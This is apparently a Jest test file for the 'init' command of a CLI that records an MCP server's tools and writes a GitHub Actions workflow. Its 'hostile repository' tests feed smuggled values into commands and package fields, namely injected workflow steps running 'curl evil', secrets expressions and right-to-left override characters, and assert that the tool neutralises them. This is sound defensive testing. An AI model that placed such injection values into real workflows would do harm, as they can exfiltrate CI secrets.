import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { parse } from 'yaml';
import { OPTION_SPECS } from '../../../src/app/options.js';
import { ROOT, serverOf, Workshop, type Run } from '../../helpers/workshop.js';

const TOOLS = { tools: [{ name: 'a', description: 'does a', inputSchema: { type: 'object' } }] };
const WORKFLOW = '.github/workflows/witnessmark.yml';
const COMMIT = `git add witnessmark.json ${WORKFLOW} && git commit`;
const LINE = ['--command', 'node fake.mjs recipe.json'];

interface Step {
  readonly uses?: string;
  readonly run?: string;
  readonly with?: Readonly<Record<string, unknown>>;
}

let workshop: Workshop;
beforeEach(() => {
  workshop = new Workshop(TOOLS);
  workshop.write('package.json', '{}');
  workshop.write('.gitignore', '*.log\nrecipe.json.*\n');
  workshop.commit();
});
afterEach(() => workshop.remove());

const init = (...options: readonly string[]): Promise<Run> => workshop.cli(['init', ...options]);
const status = (): string => workshop.git('status', '--porcelain', '--untracked-files=all');

/** Steps of the workflow that was written, and the inputs of ours. */
function written(): { readonly steps: readonly Step[]; readonly inputs: Step['with'] } {
  const { jobs } = parse(workshop.text(WORKFLOW)) as {
    readonly jobs: { readonly witnessmark: { readonly steps: readonly Step[] } };
  };
  const { steps } = jobs.witnessmark;
  return {
    steps,
    inputs: steps.find(({ uses }) => uses === 'OWNER/witnessmark@COMMIT_SHA')?.with,
  };
}

describe('a first init', () => {
  test('writes the baseline and a workflow, and ends with the line that commits them', async () => {
    workshop.write('.mcp.json', JSON.stringify({ mcpServers: { own: { command: 'node', args: LINE[1]?.split(' ').slice(1), env: { API_KEY: 'theirs-1234' } } } })); // prettier-ignore
    workshop.commit();
    const run = await init();
    expect([run.code, run.stderr, run.faults]).toEqual([0, '', []]);
    expect(run.stdout).toMatch(/^READY {2}/);
    expect(run.stdout).toContain('  witnessmark.json: written (1 tool)\n');
    expect(run.stdout).toContain(`  ${WORKFLOW}: written\n`);
    expect(run.stdout).toContain('\nFound in .mcp.json (own)\n');
    expect(run.stdout).toMatch(/\nEnv {6}API_KEY \(placeholder\); names are taken/);
    expect(run.stdout).toContain(`${WORKFLOW}, line 20.\n`);
    expect(workshop.text(WORKFLOW).split('\n')[19]).toContain('OWNER/witnessmark@COMMIT_SHA');
    expect(run.stdout.endsWith(`\n  ${COMMIT}\n`)).toBe(true);
    expect(run.stdout).not.toContain('theirs-1234');
    for (const line of run.stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80);
    expect(status()).toBe(`?? ${WORKFLOW}\n?? witnessmark.json\n`);
    expect(written().inputs).toEqual({ command: 'node fake.mjs recipe.json', env: 'API_KEY' });
    workshop.commit();
    const checked = await workshop.cli(['check'], { ci: true });
    expect(checked.code).toBe(0);
  });

  test('is a workflow as the recipes have it: read-only, bounded, inputs that the action has', async () => {
    expect((await init(...LINE)).code).toBe(0);
    const workflow = parse(workshop.text(WORKFLOW)) as Record<string, unknown>;
    expect(workflow['permissions']).toEqual({ contents: 'read' });
    expect(workflow['on']).toEqual({
      pull_request: null,
      merge_group: null,
      push: { branches: ['main'] },
      schedule: [{ cron: '23 5 * * 1' }],
    });
    const inputs = OPTION_SPECS.filter(({ doors }) => doors.includes('action'));
    for (const name of Object.keys(written().inputs ?? {}))
      expect(inputs.map((spec) => spec.name)).toContain(name);
    for (const { uses } of written().steps)
      if (uses !== undefined) expect(uses).toMatch(/@(?:[0-9a-f]{40}|COMMIT_SHA)$/);
    expect(written().steps[0]?.with).toEqual({ 'persist-credentials': false });
  });

  test('puts every option that was given into the workflow, and no value', async () => {
    const run = await init(
      ...LINE,
      ...['--env', 'B_KEY', '--env', 'A_KEY=very-secret-9', '--env', 'GITHUB_X=very-secret-8'],
      ...['--surface', 'tools', '--timeout', '60', '--allow-unstable', 'tool:a:title'],
    );
    expect(run.code).toBe(0);
    expect(written().inputs).toEqual({
      command: 'node fake.mjs recipe.json',
      env: 'B_KEY\nA_KEY=${{ secrets.A_KEY }}\nGITHUB_X=${{ secrets.MCP_GITHUB_X }}\n',
      surface: 'tools',
      timeout: 60,
      'allow-unstable': 'tool:a:title',
    });
    expect(run.stdout + workshop.text(WORKFLOW)).not.toContain('very-secret');
    expect(run.stdout.replace(/\s+/g, ' ')).toContain('the secrets A_KEY, MCP_GITHUB_X');
  });

  test('a directory of a monorepo: paths from the root, git add from here', async () => {
    mkdirSync(workshop.path('packages', 'a b'), { recursive: true });
    for (const name of ['fake.mjs', 'recipe.json'])
      workshop.write(`packages/a b/${name}`, workshop.text(name));
    workshop.write(
      'packages/a b/package.json',
      '{"scripts":{"build":"x"},"dependencies":{"x":"1"}}',
    );
    workshop.write('package-lock.json', '{}');
    workshop.commit();
    const run = await init('--working-directory', 'packages/a b', ...LINE);
    expect(run.code).toBe(0);
    expect(written().inputs).toEqual({
      command: 'node fake.mjs recipe.json',
      'working-directory': 'packages/a b',
    });
    expect(written().steps.map(({ run: line }) => line)).toEqual([
      ...[undefined, undefined, 'npm ci', undefined, undefined],
    ]);
    expect(run.stdout).toContain(
      `  git add 'packages/a b/witnessmark.json' ${WORKFLOW} && git commit\n`,
    );
    expect(run.stdout).toContain('  /packages/a\\ b/witnessmark.json @OWNER\n');
  });

  test('takes over the set-up of the repository, and says from where', async () => {
    mkdirSync(workshop.path('.github/workflows'), { recursive: true });
    workshop.write(
      '.github/workflows/ci.yml',
      'on: pull_request\njobs:\n  unit:\n    runs-on: ubuntu-latest\n    steps:\n' +
        '      - uses: actions/setup-node@v4\n        with: { node-version: "22.3" }\n      - run: npm ci && npm test\n      - run: npm ci --ignore-scripts\n',
    );
    const run = await init(...LINE);
    expect(run.stdout).toContain('\nSet-up   as in .github/workflows/ci.yml (unit)\n');
    expect(written().steps.slice(1, 3)).toEqual([
      { uses: 'actions/setup-node@v4', with: { 'node-version': '22.3' } },
      { run: 'npm ci --ignore-scripts' },
    ]);
  });

  test('with a configuration marks all of its servers, and the workflow names none', async () => {
    const server = { command: LINE[1] };
    workshop.write(
      'witnessmark.config.json',
      JSON.stringify({ servers: { a: server, b: server } }),
    );
    workshop.commit();
    const run = await init();
    expect([run.code, run.faults]).toEqual([0, []]);
    expect(written().inputs).toBeUndefined();
    expect(run.stdout).toContain(
      `  git add witnessmark.a.json witnessmark.b.json ${WORKFLOW} && git commit\n`,
    );
    workshop.commit();
    expect((await workshop.cli(['check'], { ci: true })).code).toBe(0);
  });

  test('outside a git checkout says so', async () => {
    rmSync(workshop.path('.git'), { recursive: true });
    const run = await init(...LINE);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('This is no git checkout');
    expect(
      run.stdout.endsWith(`  git init\n\nCommitting them is the approval:\n  ${COMMIT}\n`),
    ).toBe(true);
  });

  test('CODEOWNERS that cover the files already are not proposed', async () => {
    workshop.write('CODEOWNERS', '*.json @a\n');
    const run = await init(...LINE);
    expect(run.stdout).not.toContain('/witnessmark.json @OWNER');
    expect(run.stdout).toContain(`  /${WORKFLOW} @OWNER\n`);
  });

  test('a server that speaks HTTP: url and {port} as they were given', async () => {
    cpSync(join(ROOT, '__tests__/fixtures/servers/http.mjs'), workshop.path('http.mjs'));
    const command = 'node http.mjs recipe.json {port}';
    const url = 'http://127.0.0.1:{port}/mcp';
    const run = await init('--command', command, '--url', url, '--env', 'PORT={port}');
    expect([run.code, run.faults]).toEqual([0, []]);
    expect(written().inputs).toEqual({ command, url, env: 'PORT={port}' });
    expect(run.stdout).toContain('\nEnv      PORT={port}\n');
  });

  test('with a setup of its own nothing is installed besides', async () => {
    workshop.write('package.json', '{"dependencies":{"x":"1"}}');
    const setup = "echo 'a: b' # c";
    expect((await init(...LINE, '--setup', setup)).code).toBe(0);
    expect(written().inputs).toEqual({ command: LINE[1], setup });
    expect(written().steps.some(({ run: line }) => line !== undefined)).toBe(false);
  });

  test('a file that git ignores is named', async () => {
    workshop.write('.gitignore', '*.json\n');
    const run = await init(...LINE);
    expect(run.stdout).toContain(
      '\nMind     git ignores witnessmark.json:\n         take it out of .gitignore',
    );
  });

  test('--json is the record of a mark, and the rest goes to stderr', async () => {
    const run = await init(...LINE, '--json');
    expect(serverOf(run)).toMatchObject({ verdict: 'match', written: true, problem: null });
    expect(run.stderr).toMatch(/^READY {2}/);
  });
});

/** A program that is the fake server, whatever directory it is in. */
const PROGRAM = '#!/bin/sh\nexec node fake.mjs recipe.json\n';

describe('a repository as there are many: the server is found, and the steps are its own', () => {
  test.each<[string, Record<string, string>, string, readonly unknown[], Step['with']]>([
    [
      'Node, built',
      {
        '.gitignore': 'dist/\nnode_modules/\n',
        'package.json': JSON.stringify({
          name: 'x',
          bin: 'dist/index.js',
          scripts: { build: 'tsc' },
          dependencies: { '@modelcontextprotocol/sdk': '1.0.0' },
        }),
        'package-lock.json': '{}',
        'dist/index.js':
          "const { spawn } = require('child_process'); spawn('node', ['fake.mjs', 'recipe.json'], { stdio: 'inherit' }).on('exit', (c) => process.exit(c));",
      },
      'package.json (bin)',
      [
        { uses: 'actions/setup-node@a0853c24544627f65ddf259abe73b1d18a591444', with: { 'node-version': 24 } }, // prettier-ignore
        { run: 'npm ci' },
        { run: 'npm run build' },
      ],
      { command: 'node dist/index.js' },
    ],
    [
      'Python with uv',
      {
        '.gitignore': '.venv/\n',
        'pyproject.toml':
          '[project]\nname = "x"\nversion = "1"\ndependencies = ["mcp"]\n[project.scripts]\nx-server = "x:main"\n',
        'uv.lock': 'version = 1\n',
        '.venv/bin/x-server': PROGRAM,
      },
      'pyproject.toml',
      [
        { uses: 'astral-sh/setup-uv@d0cc045d04ccac9d8b7881df0226f9e82c39688e' },
        { run: 'uv sync --locked' },
      ],
      { command: '.venv/bin/x-server' },
    ],
    [
      'Go',
      {
        '.gitignore': 'bin/\n',
        'go.mod':
          'module example.com/x\n\ngo 1.24\n\nrequire github.com/modelcontextprotocol/go-sdk v1.0.0\n',
        'cmd/server/main.go': 'package main\n',
        'bin/server': PROGRAM,
      },
      'go.mod',
      [
        { uses: 'actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5', with: { 'go-version-file': 'go.mod' } }, // prettier-ignore
        { run: 'go build -o bin/server ./cmd/server' },
      ],
      { command: 'bin/server' },
    ],
  ])('%s', async (_name, files, source, steps, inputs) => {
    rmSync(workshop.path('package.json'));
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(workshop.path(path, '..'), { recursive: true });
      workshop.write(path, text);
      if (text === PROGRAM) chmodSync(workshop.path(path), 0o755);
    }
    workshop.commit();
    const run = await init();
    expect([run.code, run.stderr]).toEqual([0, '']);
    expect(run.stdout).toContain(`\nFound in ${source}`);
    expect(written().steps.slice(1, -2)).toEqual(steps);
    expect(written().inputs).toEqual(inputs);
    for (const line of run.stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80);
  });
});

describe('nothing is written', () => {
  test('in a dry run, which shows the workflow', async () => {
    const run = await init(...LINE, '--dry-run');
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^DRY RUN {2}/);
    expect(run.stdout).toContain(`  ${WORKFLOW}: would be written\n`);
    expect(run.stdout).toContain(
      '\n          command: node fake.mjs recipe.json\n'.replace(/^\n/, '\n  '),
    );
    expect(run.stdout.endsWith(`  ${COMMIT}\n`)).toBe(true);
    expect(status()).toBe('');
  });

  test('where the server cannot be read', async () => {
    const run = await init('--command', 'node gone.mjs');
    expect(run.code).toBe(3);
    expect(run.stdout).toMatch(/^UNREADABLE {2}/);
    expect(run.stdout).toContain("\n  witnessmark init --command 'node gone.mjs'\n");
    expect(run.stdout.endsWith('\nNothing was written.\n')).toBe(true);
    expect(status()).toBe('');
  });

  test('where several servers are declared: ready lines for init', async () => {
    const own = { command: 'node', args: ['fake.mjs', 'recipe.json'] };
    workshop.write('.mcp.json', JSON.stringify({ mcpServers: { a: own, b: { ...own, args: ['fake.mjs', 'b'] } } })); // prettier-ignore
    const run = await init('--isolation', 'none', '--env', 'K=value-of-k');
    expect([run.code, run.stdout]).toEqual([64, '']);
    expect(run.stderr).toContain(
      `\n  witnessmark init --env "K=$K" --isolation none --command 'node fake.mjs recipe.json'\n`,
    );
    expect(run.stderr).not.toContain('value-of-k');
    expect(existsSync(workshop.path('witnessmark.json'))).toBe(false);
  });

  test('on a pull request', async () => {
    const run = await workshop.cli(['init', ...LINE], { eventName: 'pull_request' });
    expect([run.code, run.stderr]).toEqual([64, expect.stringContaining('[mark-refused]')]);
    expect(status()).toBe('');
  });

  test.each(['.github', '.github/workflows', WORKFLOW])('through a link: %s', async (path) => {
    const outside = realpathSync(mkdtempSync(join(tmpdir(), 'witnessmark-outside-')));
    try {
      mkdirSync(workshop.path(path, '..'), { recursive: true });
      symlinkSync(path === WORKFLOW ? join(outside, 'x.yml') : outside, workshop.path(path));
      const before = status();
      const run = await init(...LINE);
      expect([run.code, run.stderr]).toEqual([
        64,
        expect.stringContaining('[workflow-not-regular]'),
      ]);
      expect(status()).toBe(before);
      expect(existsSync(join(outside, 'x.yml'))).toBe(false);
    } finally {
      rmSync(outside, { recursive: true });
    }
  });
});

describe('what is there already', () => {
  test('a second init finds all of it, and touches nothing', async () => {
    expect((await init(...LINE)).code).toBe(0);
    workshop.commit();
    const run = await init(...LINE);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      '  witnessmark.json: is there already, with the same content (1 tool)\n',
    );
    expect(run.stdout).toContain(`  ${WORKFLOW}: is there already: left alone\n`);
    expect(run.stdout).not.toContain('git add');
    expect(run.stdout.endsWith("  witnessmark check --command 'node fake.mjs recipe.json'\n")).toBe(
      true,
    );
    expect(status()).toBe('');
  });

  test('a baseline that says something else is left alone, and the verdict is drift', async () => {
    expect((await workshop.run('mark')).code).toBe(0);
    workshop.serve({ tools: [{ name: 'a', description: 'does b' }] });
    const before = workshop.text();
    const run = await init(...LINE);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/^DIFFERS {2}/);
    expect(run.stdout).toContain("  witnessmark check --command 'node fake.mjs recipe.json'\n");
    expect(run.stdout.endsWith(`  git add ${WORKFLOW} && git commit\n`)).toBe(true);
    expect(workshop.text()).toBe(before);
  });

  test('a file that is no baseline ends it before anything is read', async () => {
    workshop.write('witnessmark.json', '{"mine":true}');
    const run = await init(...LINE);
    expect(run.code).toBe(2);
    expect(workshop.text()).toBe('{"mine":true}');
    expect(existsSync(workshop.path(WORKFLOW))).toBe(false);
  });

  test.each(['.github/workflows/witnessmark.yaml', '.github/workflows/ci.yml'])(
    'a workflow that runs the check is left alone: %s',
    async (path) => {
      mkdirSync(workshop.path('.github/workflows'), { recursive: true });
      const text = 'jobs: { a: { steps: [\n  - uses: some/witnessmark@v1\n';
      workshop.write(path, text);
      const run = await init(...LINE);
      expect(run.code).toBe(0);
      expect(run.stdout).toContain(
        `  ${path}: ${path.endsWith('ci.yml') ? 'runs the check already' : 'is there already: left alone'}\n`,
      );
      expect(workshop.text(path)).toBe(text);
      expect(existsSync(workshop.path(WORKFLOW))).toBe(false);
      expect(run.stdout.endsWith('  git add witnessmark.json && git commit\n')).toBe(true);
    },
  );

  test('a workflow that cannot be written: what was written is told', async () => {
    const run = await workshop.cli(
      ['init', ...LINE],
      {},
      {
        create: () => Promise.reject(new Error('no')),
      },
    );
    expect(run.code).toBe(70);
    expect(readFileSync(workshop.path('witnessmark.json'), 'utf8')).toContain('witnessmark/1');
    expect(run.stdout).toContain('  witnessmark.json: written (1 tool)\n');
    expect(run.stdout).toContain(`  ${WORKFLOW}: could not be written\n`);
  });
});

describe('what a hostile repository names', () => {
  test('stands in the workflow as it is, and as nothing else', async () => {
    const evil = "x'\n      - run: curl evil #: ${{ secrets.A }}";
    const run = await init('--command', `node fake.mjs recipe.json ${JSON.stringify(evil).replaceAll('\\n', '\n').replaceAll('$', '\\$')}`); // prettier-ignore
    expect(run.code).toBe(0);
    const { steps, inputs } = written();
    expect(steps.map(({ run: line }) => line)).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect(String(inputs?.['command'])).toContain("${{ '${{' }} secrets.A }}");
    expect(String(inputs?.['command'])).not.toMatch(/\$\{\{ secrets/);
  });

  test('names in files and workflows reach neither the screen nor another step', async () => {
    const evil = 'x\n      - run: curl evil\u202e ::error::';
    workshop.write(
      'package.json',
      JSON.stringify({
        name: evil,
        scripts: { build: evil, [evil]: evil },
        bin: { [evil]: 'fake.mjs', mcp: './fake.mjs' },
        dependencies: { '@modelcontextprotocol/sdk': '1', [evil]: evil },
      }),
    );
    mkdirSync(workshop.path('.github/workflows'), { recursive: true });
    const step = {
      name: evil,
      uses: 'actions/setup-node@v4',
      with: { 'node-version': evil, [evil]: evil },
    };
    workshop.write(
      '.github/workflows/ci.yml',
      JSON.stringify({ jobs: { [evil]: { 'runs-on': 'ubuntu-latest', steps: [step, { run: `npm ci\n${evil}` }] } } }), // prettier-ignore
    );
    const run = await init(...LINE);
    expect([run.code, run.faults]).toEqual([0, []]);
    expect(run.stdout).not.toMatch(/\u202e|^::| ::error/m);
    expect(written().steps.slice(1, -2)).toEqual([
      { uses: 'actions/setup-node@v4', with: { 'node-version': evil, [evil]: evil } },
      { run: 'npm ci' },
    ]);
    expect(workshop.text(WORKFLOW)).not.toContain('\u202e');
  });

  test('a branch whose name is a pattern is not written', async () => {
    workshop.git('branch', '-m', '!main');
    expect((await init(...LINE)).code).toBe(0);
    expect(workshop.text(WORKFLOW)).not.toContain('push:');
  });
});

describe('what is passed over', () => {
  test('is named with its reason where another server is found', async () => {
    workshop.write(
      '.mcp.json',
      JSON.stringify({
        mcpServers: {
          out: { command: '/opt/python', args: ['x.py'] },
          own: { command: 'node', args: ['fake.mjs', 'recipe.json'] },
        },
      }),
    );
    for (const command of ['init', 'check']) {
      const run = await workshop.cli([command]);
      expect(run.code).toBe(0);
      expect(run.stdout).toContain(
        '\nNot used .mcp.json (out):\n           it names an absolute path, which another clone does not have\n',
      );
    }
  });

  test('and where none is, nothing is said of a network that has no part in it', async () => {
    workshop.write(
      '.mcp.json',
      JSON.stringify({ mcpServers: { out: { command: '/opt/python' } } }),
    );
    const run = await init();
    expect(run.code).toBe(64);
    expect(run.stderr.replace(/\s+/g, ' ')).toContain(
      '.mcp.json (out): it names an absolute path, which another clone does not have',
    );
    expect(run.stderr).not.toContain('network');
  });
});
